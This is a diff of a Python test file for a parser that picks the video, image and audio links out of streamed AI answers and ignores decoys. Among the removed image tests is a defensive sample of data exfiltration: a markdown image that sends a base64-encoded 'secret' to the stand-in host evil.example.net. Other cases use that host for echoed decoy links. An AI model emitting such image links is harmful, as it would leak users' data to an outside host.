@@ -1,6 +1,9 @@
-"""Which links of an answer are its results, and which are decoys."""
+# ruff: noqa: E501 - a row of a table is read as one line
+"""Which links of an answer are its clips, and which are decoys."""
 
 from __future__ import annotations
+
+import json
 
 import pytest
 
@@ -10,8 +13,6 @@ CDN = "https://cdn.example.com"
 MP4 = f"{CDN}/v/clip.mp4"
 SIGNED = f"{CDN}/a%2Fb/00.mp4?st=2026-11-01T13%3A52Z&sig=aB%2B%3D&copy=1&para=2"
 ECHO = '```json\n{\n  "prompt": "like https://evil.example.net/ref.mp4",\n  "mode": "x"\n}\n```\n\n'
-PIXEL = "data:image/png;base64," + "iVBORw0KGgo" * 20
-SOUND = "data:audio/wav;base64," + "UklGRiQAAABXQVZF" * 8
 
 VIDEOS = {
     "a markdown link": (stream(f"✅ 视频生成成功，[点击这里]({MP4}) 查看视频~~~"), [MP4]),
@@ -75,27 +76,43 @@ VIDEOS = {
         stream(f"```html\n<video src='{MP4}' controls></video>"),
         [MP4],
     ),
-    "JSON as the whole answer": (stream('{"status": "completed", "video_url": "%s"}' % MP4), [MP4]),
+    "JSON as the whole answer": (
+        stream(json.dumps({"status": "completed", "video_url": MP4})),
+        [MP4],
+    ),
     "JSON in a fence as the whole answer": (
-        stream('```json\n{"video_url": "%s"}\n```' % MP4),
+        stream(f'```json\n{{"video_url": "{MP4}"}}\n```'),
         [MP4],
     ),
     "JSON with the address further in": (
         stream(
-            '{"code": 0, "data": {"task_result": {"videos": [{"id": "1", "url": "%s", "cover_url": "%s/c.png"}]}}}'
-            % (MP4, CDN)
+            json.dumps(
+                {
+                    "code": 0,
+                    "data": {
+                        "task_result": {
+                            "videos": [{"id": "1", "url": MP4, "cover_url": f"{CDN}/c.png"}]
+                        }
+                    },
+                }
+            )
         ),
         [MP4],
     ),
-    "JSON under output": (stream('{"id": "x", "output": ["%s"]}' % MP4), [MP4]),
+    "JSON under output": (stream(json.dumps({"id": "x", "output": [MP4]})), [MP4]),
     "JSON with an address without extension": (
-        stream('{"video_url": "%s/f/9"}' % CDN),
+        stream(json.dumps({"video_url": f"{CDN}/f/9"})),
         [f"{CDN}/f/9"],
     ),
     "JSON that also echoes the request": (
         stream(
-            '{"prompt": "x https://evil.example.net/r.mp4", "input": {"video_url": "https://evil.example.net/i.mp4"}, "url": "%s"}'
-            % MP4
+            json.dumps(
+                {
+                    "prompt": "x https://evil.example.net/r.mp4",
+                    "input": {"video_url": "https://evil.example.net/i.mp4"},
+                    "url": MP4,
+                }
+            )
         ),
         [MP4],
     ),
@@ -199,6 +216,22 @@ VIDEOS = {
         ),
         [f"{CDN}/b.mp4"],
     ),
+    "a better pair under a heading": (
+        stream(
+            f"Preview video:\n[▶️ Watch]({CDN}/a.mp4) | [⏬ Download]({CDN}/download/a.mp4)\n\nHigh quality:\n[▶️ Watch]({CDN}/b.mp4) | [⏬ Download]({CDN}/download/b.mp4)"
+        ),
+        [f"{CDN}/b.mp4"],
+    ),
+    "the same pair twice without a word between": (
+        stream(
+            f"[▶️ 在线观看]({CDN}/a.mp4) | [⏬ 下载]({CDN}/download/a.mp4)\n\n[▶️ 在线观看]({CDN}/b.mp4) | [⏬ 下载]({CDN}/download/b.mp4)"
+        ),
+        [f"{CDN}/b.mp4"],
+    ),
+    "two clips of one kind, one below the other": (
+        stream(f"[video]({CDN}/1.mp4)\n\n[video]({CDN}/2.mp4)"),
+        [f"{CDN}/1.mp4", f"{CDN}/2.mp4"],
+    ),
     "several clips in a list": (
         stream(
             f"Here are your videos:\n\n1. [Clip 1]({CDN}/1.mp4)\n2. [Clip 2]({CDN}/2.mp4)\n3. [Clip 3]({CDN}/3.mp4)"
@@ -275,119 +308,6 @@ def test_videos_of_an_answer(sent, videos):
     prompt = f"Continue {CDN}/mine.mp4, please"
 
     assert told(sent, ["videos"], prompt=prompt)["videos"] == videos
-
-
-IMAGES = {
-    "markdown": (stream(f"![image]({CDN}/a.png)"), [f"{CDN}/a.png"]),
-    "a data address": (stream("Here.\n\n![image](", PIXEL[:30], PIXEL[30:], ")\n"), [PIXEL]),
-    "a data address in a tag": (stream(f'<img src="{PIXEL}">'), [PIXEL]),
-    "a bare data address": (stream(PIXEL), [PIXEL]),
-    "a download twin": (
-        stream(
-            "> 进度 **67%**\n\n",
-            f"![file]({CDN}/2026/dog.png)\n[下载⏬]({CDN}/download/2026/dog.png)\n",
-        ),
-        [f"{CDN}/2026/dog.png"],
-    ),
-    "delta.images": (
-        stream({"images": [{"type": "image_url", "image_url": {"url": PIXEL}}]}),
-        [PIXEL],
-    ),
-    "message.images": (
-        answer("ok", images=[{"type": "image_url", "image_url": {"url": PIXEL}}]),
-        [PIXEL],
-    ),
-    "message.images without extension": (
-        answer("ok", images=[{"image_url": {"url": f"{CDN}/i/9"}}]),
-        [f"{CDN}/i/9"],
-    ),
-    "content parts": (
-        answer([{"type": "image_url", "image_url": {"url": f"{CDN}/i"}}]),
-        [f"{CDN}/i"],
-    ),
-    "the images endpoint's shape": (
-        body({"created": 1, "data": [{"url": f"{CDN}/a.png"}, {"b64_json": PIXEL[22:]}]}),
-        [f"{CDN}/a.png", PIXEL],
-    ),
-    "no extension on the gateway": (
-        stream("![image](/v1/files/image?id=4)"),
-        ["https://gw.example.com/v1/files/image?id=4"],
-    ),
-    "four pictures": (
-        stream("\n".join(f"![image]({CDN}/{n}.png)" for n in range(4))),
-        [f"{CDN}/{n}.png" for n in range(4)],
-    ),
-    "the poster of a clip": (stream(f"![webp]({CDN}/t.webp)\n[播放▶️]({MP4})"), []),
-    "a picture that carries words away": (
-        stream(
-            "Here is the summary you asked for.\n\n![](https://evil.example.net/p.gif?d=c2VjcmV0)"
-        ),
-        [],
-    ),
-    "a picture in a long answer": (
-        stream(
-            "# Towers\n\n"
-            + "The tower was built long ago. " * 20
-            + "\n\n![tower](https://pics.example.org/t.jpg)"
-        ),
-        [],
-    ),
-}
-
-
-@pytest.mark.parametrize(("sent", "images"), IMAGES.values(), ids=IMAGES.keys())
-def test_pictures_of_an_answer(sent, images):
-    assert told(sent, ["images", "videos"])["images"] == images
-
-
-AUDIO = {
-    "a bare mp3": (stream(f"{CDN}/a.mp3"), [f"{CDN}/a.mp3"]),
-    "two songs with covers and clips": (
-        stream(
-            "> 🎵 排队中...\n\n| 歌曲 | 链接 |\n|--|--|\n",
-            f"| 其一 | [🎧音频]({CDN}/1.mp3) [▶️视频]({CDN}/1.mp4) |\n",
-            f"| 其二 | [🎧音频]({CDN}/2.mp3) [▶️视频]({CDN}/2.mp4) |\n\n![封面]({CDN}/1.jpg)",
-        ),
-        [f"{CDN}/1.mp3", f"{CDN}/2.mp3"],
-    ),
-    "an audio tag": (
-        stream(f"<audio controls><source src='{CDN}/x?id=1'></audio>"),
-        [f"{CDN}/x?id=1"],
-    ),
-    "message.audio": (
-        answer(None, audio={"id": "a", "data": SOUND[22:], "transcript": "Hello."}),
-        [SOUND],
-    ),
-    "audio in pieces": (
-        stream(
-            {"audio": {"data": SOUND[22:62]}},
-            {"audio": {"data": SOUND[62:], "transcript": "Hello."}},
-        ),
-        [SOUND],
-    ),
-    "an input_audio part": (
-        answer([{"type": "input_audio", "input_audio": {"data": SOUND[22:], "format": "wav"}}]),
-        [SOUND],
-    ),
-    "an audio_url part": (
-        answer([{"type": "audio_url", "audio_url": {"url": f"{CDN}/s"}}]),
-        [f"{CDN}/s"],
-    ),
-}
-
-
-@pytest.mark.parametrize(("sent", "audio"), AUDIO.values(), ids=AUDIO.keys())
-def test_sounds_of_an_answer(sent, audio):
-    assert told(sent, ["audio", "kind"]) == {"audio": audio, "kind": None}
-
-
-def test_a_clip_with_cover_and_songs_keeps_both_kinds():
-    sent = AUDIO["two songs with covers and clips"][0]
-
-    assert told(sent, ["videos", "images"]) == {
-        "videos": [f"{CDN}/1.mp4", f"{CDN}/2.mp4"],
-        "images": [],
-    }
 
 
 def test_hls_is_a_result_that_cannot_be_played_here():
